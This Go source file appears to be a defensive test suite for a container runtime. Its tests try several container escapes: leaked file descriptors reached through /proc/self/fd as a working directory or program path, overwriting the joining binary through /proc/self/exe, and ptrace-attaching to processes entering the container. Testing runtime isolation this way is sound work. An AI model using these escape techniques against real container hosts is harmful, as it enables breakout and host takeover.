package hostile

import (
	"fmt"
	"os"
	"os/exec"
	"slices"
	"strings"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"
)

// leakedCwd goes to directories that the runtime may have left open, by the working directory.
// Some are the caller's.
func leakedCwd(v *victim) {
	file := v.outside + "/file"
	run := func() {
		v.write([]string{"escape", file})
		v.hear(v.callWith(v.leave, "run", "--bundle", v.bundle, v.id))
	}
	for n := 3; n < 13 && v.broken == ""; n++ {
		v.newBundle()
		v.spec.Process.Cwd = fmt.Sprintf("/proc/self/fd/%d", n)
		run()
		v.link("way", v.spec.Process.Cwd)
		v.spec.Process.Cwd = "/way"
		run()
	}
	v.newBundle()
	refused := v.refused
	if v.broken != "" || !v.up("sleep") {
		return
	}
	defer v.remove()
	v.refused = refused
	for n := 3; n < 13; n++ {
		r := v.exec([]string{"--cwd", fmt.Sprintf("/proc/self/fd/%d", n)}, "escape", file)
		if strings.Contains(r.out, "BROKEN") {
			v.breaks("exec: %s", r.out)
		}
	}
}

// leave leaves a directory of the host open in the runtime, more often than it needs descriptors for itself.
func (v *victim) leave(cmd *exec.Cmd) {
	dir, err := os.Open(v.outside)
	v.must(err)
	v.t.Cleanup(func() { _ = dir.Close() })
	cmd.ExtraFiles = slices.Repeat([]*os.File{dir}, 10)
}

// leakedProgram executes a file of the host by directories that the runtime may have left open, and looks for
// descriptors of the runtime's and of the caller's.
func leakedProgram(v *victim) {
	v.install(v.outside + "/tool")
	v.before = v.look()
	v.write([]string{"fds"})
	v.hear(v.callWith(v.leave, "run", "--bundle", v.bundle, v.id))
	refused := v.refused
	for n := 3; n < 13 && v.broken == ""; n++ {
		v.spec.Process.Args = []string{fmt.Sprintf("/proc/self/fd/%d/%s%s/tool", n, strings.Repeat("../", 12), v.outside), "id"}
		v.writeSpec()
		if r := v.callWith(v.leave, "run", "--bundle", v.bundle, v.id); !r.failed() {
			v.breaks("descriptor %d led to a program of the host", n)
		}
		v.remove()
	}
	v.refused = refused
	if v.broken != "" || !v.up("sleep") {
		return
	}
	defer v.remove()
	r := v.callWith(v.leave, "exec", v.id, "/bin/attacker", "fds")
	if strings.Contains(r.out, "BROKEN") {
		v.breaks("exec: %s", r.out)
	}
}

// lurk starts a container in which the attacker waits for who joins, and lets processes join.
func (v *victim) lurk(joiners [][]string, verb ...string) {
	v.file("proc-self-exe", "#!/proc/self/exe\n")
	v.must(os.Chmod(v.root("proc-self-exe"), 0o755))
	for _, name := range []string{"ready", "stop"} {
		_ = os.Remove(v.root(name))
	}
	if !v.up(verb...) {
		return
	}
	defer v.remove()
	for end := time.Now().Add(v.limit); ; time.Sleep(10 * time.Millisecond) {
		if _, err := os.Stat(v.root("ready")); err == nil {
			break
		}
		if time.Now().After(end) {
			v.t.Fatal("the attacker did not begin")
		}
	}
	stream := v.stream() + ".out"
	for range 4 {
		for _, j := range joiners {
			_ = v.call(append([]string{"exec"}, append(append([]string{}, j[:len(j)-1]...), v.id, j[len(j)-1])...)...)
		}
	}
	v.file("stop", "")
	out := ""
	for end := time.Now().Add(10 * time.Second); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
		if out = read(stream); strings.Contains(out, "held") || strings.Contains(out, "met") {
			break
		}
	}
	for line := range strings.Lines(out) {
		if text, ok := strings.CutPrefix(line, "BROKEN: "); ok {
			v.breaks("%s", strings.TrimSpace(text))
		}
	}
	v.t.Log(out[max(0, len(out)-100):])
}

// overwriteBinary writes to the binary of who joins, and of a container whose program is /proc/self/exe.
func overwriteBinary(v *victim) {
	v.spec.Process.Args = []string{"/proc/self/exe"}
	v.writeSpec()
	_ = v.call("run", "--bundle", v.bundle, v.id)
	v.remove()
	v.lurk([][]string{{"/proc/self/exe"}, {"/proc-self-exe"}, {"/bin/attacker"}}, "overwrite")
}

// traceJoining attaches to who joins the container. The PATH, which is the image's, keeps a joiner busy when it has no
// more capabilities than the attacker.
func traceJoining(v *victim) {
	file := v.outside + "/file"
	path := "PATH=" + strings.Repeat("/x:", 20000) + "/bin"
	joiners := [][]string{{"/bin/attacker"}, {"--cwd", "/tmp", "/bin/attacker"}, {"--env", path, "attacker"}}
	v.lurk(joiners, "trace", file)
	// Root of the container may look into whoever shares its user namespace.
	v.capabilities("CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH")
	v.lurk(joiners, "trace", file, "files")
	v.newBundle()
	v.capabilities("CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE")
	v.userNamespace()
	v.lurk(joiners, "trace", file)
}

// userNamespace gives the container one, and the root filesystem to its root.
func (v *victim) userNamespace() {
	v.spec.Linux.Namespaces = append(v.spec.Linux.Namespaces, specs.LinuxNamespace{Type: specs.UserNamespace})
	v.spec.Linux.UIDMappings = []specs.LinuxIDMapping{{HostID: 100000, Size: 65536}}
	v.spec.Linux.GIDMappings = v.spec.Linux.UIDMappings
	out, err := exec.Command("chown", "-R", "100000:100000", v.root("")).CombinedOutput()
	if err != nil {
		v.t.Fatal(string(out))
	}
}
